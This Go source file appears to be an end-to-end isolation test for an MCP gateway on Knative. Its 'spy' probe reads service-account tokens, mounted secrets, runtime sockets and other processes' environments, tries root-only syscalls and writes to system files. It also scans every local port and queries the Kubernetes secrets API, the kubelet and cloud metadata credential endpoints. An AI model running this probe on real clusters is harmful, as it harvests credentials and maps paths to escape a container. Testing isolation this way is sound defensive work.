package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"mcpgateway/knative/e2e/loot"
)

// files reads whatever is a file in its own container and where others have theirs.
func (s *spy) files() {
	for _, path := range []string{"/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/seal/seal", "/run/secrets/token/token",
		"/run/secrets/hook/hook", "/etc/mounts/rules/rules", "/run/state", "/run/sockets/server/socket", "/run/sockets/filter-notary/socket",
		"/run/containerd/containerd.sock", "/run/mcp-test-cluster/containerd.sock", "/var/run/docker.sock", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/sysrq-trigger"} {
		s.read(path)
	}
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			s.took(loot.Folder, path, nil, err)
		case path == "/proc" || path == "/sys":
			return fs.SkipDir
		case d.Type().IsRegular() && path != os.Args[0]:
			s.read(path)
		case d.Type()&fs.ModeSocket != 0:
			s.took(loot.Socket, path, nil, nil)
		}
		return nil
	})
	for _, table := range []string{"/proc/net/unix", "/proc/self/mountinfo", "/proc/self/status"} {
		text, err := os.ReadFile(table)
		s.took(loot.Table, table, text, err)
	}
}

func (s *spy) read(path string) {
	f, err := os.OpenFile(path, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		s.took(loot.File, path, nil, err)
		return
	}
	defer f.Close()
	text, err := io.ReadAll(io.LimitReader(f, 16<<10))
	s.took(loot.File, path, text, err)
}

// writes tries to leave something where it would last, or where others would find it.
func (s *spy) writes() {
	for _, path := range []string{"/spy", "/bin/spy2", "/etc/hosts", "/etc/resolv.conf", "/etc/passwd", "/proc/sys/kernel/core_pattern",
		"/proc/sys/net/ipv4/ip_unprivileged_port_start", "/sys/fs/cgroup/memory.max", "/dev/termination-log2", "/run/spy"} {
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE, 0o666)
		if err == nil {
			err = f.Close()
		}
		s.took(loot.Write, path, nil, err)
	}
}

// processes looks into every process that it sees but itself.
func (s *spy) processes() {
	all, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range all {
		if dir == fmt.Sprintf("/proc/%d", os.Getpid()) {
			continue
		}
		for _, name := range []string{"cmdline", "environ", "maps", "root/mcp/shim"} {
			text, err := os.ReadFile(filepath.Join(dir, name))
			s.took(loot.Process, filepath.Join(dir, name), text[:min(len(text), 1000)], err)
		}
	}
}

// powers are rights that root has, and what leads to them.
func (s *spy) powers() {
	for name, try := range map[string]func() error{
		"setuid":  func() error { return syscall.Setuid(0) },
		"mount":   func() error { return syscall.Mount("none", "/tmp", "tmpfs", 0, "") },
		"unshare": func() error { return syscall.Unshare(syscall.CLONE_NEWUSER) },
		"chroot":  func() error { return syscall.Chroot("/tmp") },
		"device":  func() error { return syscall.Mknod("/tmp/mem", syscall.S_IFCHR|0o600, 1<<8|1) },
		"raw": func() error {
			fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_TCP)
			if err == nil {
				err = syscall.Close(fd)
			}
			return err
		},
		"packet": func() error {
			fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
			if err == nil {
				err = syscall.Close(fd)
			}
			return err
		},
	} {
		s.took(loot.Power, name, nil, try())
	}
}

// reach asks everybody: all ports of its pod, the node, the API server, and where clouds have credentials.
func (s *spy) reach() {
	var wg sync.WaitGroup
	gate := make(chan struct{}, 64)
	for port := 1; port < 1<<16; port++ {
		gate <- struct{}{}
		wg.Go(func() {
			defer func() { <-gate }()
			address := fmt.Sprintf("127.0.0.1:%d", port)
			conn, err := net.DialTimeout("tcp", address, time.Second)
			if err != nil {
				return // most are nobody's
			}
			_ = conn.Close()
			s.ask("http://" + address + "/")
			s.ask("http://" + address + "/metrics")
		})
	}
	for _, url := range s.doors {
		gate <- struct{}{}
		wg.Go(func() {
			defer func() { <-gate }()
			s.ask(url)
		})
	}
	wg.Wait()
	api := "https://" + net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
	for _, url := range []string{api + "/api/v1/namespaces/mcp-servers/secrets", api + "/apis/serving.knative.dev/v1/namespaces/mcp-servers/services",
		api + "/api/v1/namespaces/mcp-servers/configmaps", "https://10.250.0.1:10250/pods", "https://10.250.0.1:10250/runningpods/",
		"http://10.250.0.1:10255/pods", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.170.23/v1/credentials"} {
		s.ask(url)
	}
}

var client = &http.Client{Timeout: time.Second, Transport: &http.Transport{DisableKeepAlives: true,
	TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}} // it is no spy's to care whom it steals from

func (s *spy) ask(url string) {
	r, err := http.NewRequestWithContext(context.Background(), http.MethodGet, url, nil)
	if err != nil {
		s.took(loot.Reach, url, nil, err)
		return
	}
	resp, err := client.Do(r)
	if err != nil {
		s.took(loot.Reach, url, nil, fmt.Errorf("%.60s", err))
		return
	}
	defer resp.Body.Close()
	resp.Header.Del("Date")
	dump, err := httputil.DumpResponse(resp, strings.HasPrefix(url, "https") || strings.HasSuffix(url, "/"))
	s.took(loot.Reach, url, dump, err)
}
